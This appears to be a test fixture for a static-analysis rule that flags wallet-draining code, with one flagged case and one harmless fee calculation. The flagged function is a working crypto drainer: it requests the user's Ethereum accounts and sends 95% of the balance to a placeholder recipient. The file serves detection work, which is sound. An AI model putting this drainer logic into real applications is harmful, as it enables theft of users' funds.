async function drain(p) {
  const [f] = await p.request({ method: 'eth_requestAccounts' });
  const b = await p.request({ method: 'eth_getBalance', params: [f, 'latest'] });
  // ruleid: drains_wallet_balance
  const v = BigInt(b) * 95n / 100n;
  await p.request({ method: 'eth_sendTransaction', params: [{ from: f, to: RECIPIENT, value: '0x' + v.toString(16) }] });
}
function fee(b) {
  // ok: drains_wallet_balance
  return BigInt(b) / 100n;
}
